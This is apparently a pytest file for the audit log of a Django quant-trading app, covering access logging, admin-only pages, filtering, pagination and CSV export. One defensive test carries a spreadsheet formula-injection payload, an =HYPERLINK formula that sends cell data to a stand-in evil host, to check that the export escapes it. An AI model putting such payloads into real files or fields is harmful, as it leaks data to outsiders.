from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from auditlog.models import LogEntry
from django.http import HttpResponse
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone
from django_otp.plugins.otp_totp.models import TOTPDevice

from quant.audit import log_access
from quant.models import AccessLog, Strategy
from quant.services import access_log_create
from tests.factories import StrategyFactory, UserFactory

pytestmark = pytest.mark.django_db


def _rows(n, user, action="view", name="page"):
    factory = RequestFactory()
    for i in range(n):
        request = factory.get(f"/x/{i}/")
        request.user = user
        access_log_create(request=request, action=action, name=name)


def test_log_access_records_successful_requests_only():
    user = UserFactory()

    @log_access("risk.exposures")
    def view(request, strategy_id):
        return HttpResponse(status=200 if strategy_id != 9 else 404)

    request = RequestFactory().get("/risk/exposures/?as_of=2024-12-31", HTTP_USER_AGENT="ua", REMOTE_ADDR="10.1.2.3")
    request.user = user
    view(request, strategy_id=4)
    view(request, strategy_id=9)
    log = AccessLog.objects.get()
    assert (log.name, log.action, log.object_id, log.ip, log.user_agent, log.path) == (
        "risk.exposures",
        "view",
        "4",
        "10.1.2.3",
        "ua",
        "/risk/exposures/?as_of=2024-12-31",
    )


def test_audit_page_is_for_admins_only(client):
    client.force_login(UserFactory(role="operator"))
    assert client.get(reverse("quant:audit_log")).status_code == 403
    assert client.get(reverse("quant:audit_export")).status_code == 403


def test_audit_page_filters_and_paginates(client):
    admin, alice, bob = UserFactory(role="admin"), UserFactory(username="alice"), UserFactory(username="bob")
    _rows(60, alice)
    _rows(3, bob, action="export", name="audit.export")
    old = AccessLog.objects.filter(username="bob").first()
    AccessLog.objects.filter(pk=old.pk).update(timestamp=timezone.now() - timedelta(days=10))
    client.force_login(admin)

    full = client.get(reverse("quant:audit_log"))
    assert full.status_code == 200 and "<html" in full.content.decode()
    assert full.context["page"].paginator.count == 63  # the admin's own view is logged after rendering

    page2 = client.get(reverse("quant:audit_log"), {"user": "alice", "page": 2}, headers={"HX-Request": "true"})
    body = page2.content.decode()
    assert "<html" not in body and body.strip().startswith('<div id="audit-table">')
    assert "Page 2 of 2 (60 rows)" in body and body.count(">alice</td>") == 10
    assert 'hx-push-url="true"' in body and "user=alice&amp;page=1" in body

    since = (timezone.now() - timedelta(days=2)).date().isoformat()
    exports = client.get(reverse("quant:audit_log"), {"action": "export", "date_from": since})
    assert exports.context["page"].paginator.count == 2


def test_invalid_date_range_shows_error_and_no_filter(client):
    client.force_login(UserFactory(role="admin"))
    response = client.get(reverse("quant:audit_log"), {"date_from": "2024-05-02", "date_to": "2024-05-01"})
    assert "must not be after" in response.content.decode()


def test_export_is_csv_of_the_filtered_rows_and_is_logged(client):
    admin, alice = UserFactory(role="admin"), UserFactory(username="alice")
    _rows(4, alice, name="risk.exposures")
    client.force_login(admin)
    response = client.get(reverse("quant:audit_export"), {"user": "alice"})
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["timestamp", "username", "action", "name"]
    assert len(rows) == 5 and {r[1] for r in rows[1:]} == {"alice"}
    export = AccessLog.objects.get(action="export")
    assert (export.user_id, export.name, export.path) == (
        admin.pk,
        "audit.export",
        "/quant/audit/export.csv?user=alice",
    )


def test_export_neutralises_spreadsheet_formulas(client):
    """Finding 8 of issue 12: a User-Agent of =HYPERLINK(...) went raw into the CSV."""
    admin = UserFactory(role="admin")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    request = RequestFactory().get("/x/", HTTP_USER_AGENT=evil)
    request.user = admin
    access_log_create(request=request, action="control", name="strategy.halt", object_id="-7", reason="@SUM(1+1)")
    client.force_login(admin)
    response = client.get(reverse("quant:audit_export"), {"action": "control"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, row = rows[0], rows[1]
    assert len(rows) == 2
    assert row[header.index("user_agent")] == "'" + evil
    assert row[header.index("reason")] == "'@SUM(1+1)"
    assert row[header.index("object_id")] == "-7"  # a plain number stays a number
    assert row[header.index("name")] == "strategy.halt"


def test_model_changes_are_in_auditlog():
    strategy = StrategyFactory()
    strategy.status = Strategy.Status.HALTED
    strategy.save()
    changes = LogEntry.objects.get_for_object(strategy).order_by("timestamp")
    assert [e.action for e in changes] == [LogEntry.Action.CREATE, LogEntry.Action.UPDATE]
    assert changes[1].changes_dict["status"] == ["active", "halted"]
    device = TOTPDevice.objects.create(user=strategy.owner, name="authenticator")
    entry = LogEntry.objects.get_for_object(device).get()
    assert "key" not in entry.changes_dict  # the secret never goes into the log


def test_export_link_carries_the_filters_on_screen(client):
    """Filter to N rows (as htmx does, swapping only the table): the export link in the swapped
    fragment downloads exactly those N rows."""
    admin, alice = UserFactory(role="admin"), UserFactory(username="alice")
    _rows(7, alice, action="export", name="audit.export")
    _rows(20, alice)
    client.force_login(admin)
    fragment = client.get(
        reverse("quant:audit_log"), {"user": "alice", "action": "export"}, headers={"HX-Request": "true"}
    )
    body = fragment.content.decode()
    href = re.search(r'id="audit-export" href="([^"]+)"', body).group(1).replace("&amp;", "&")
    assert "user=alice" in href and "action=export" in href and "{#" not in body
    export = client.get(href)
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert "(7 rows)" in body and len(rows) - 1 == 7
    assert {r[1] for r in rows[1:]} == {"alice"} and {r[2] for r in rows[1:]} == {"export"}
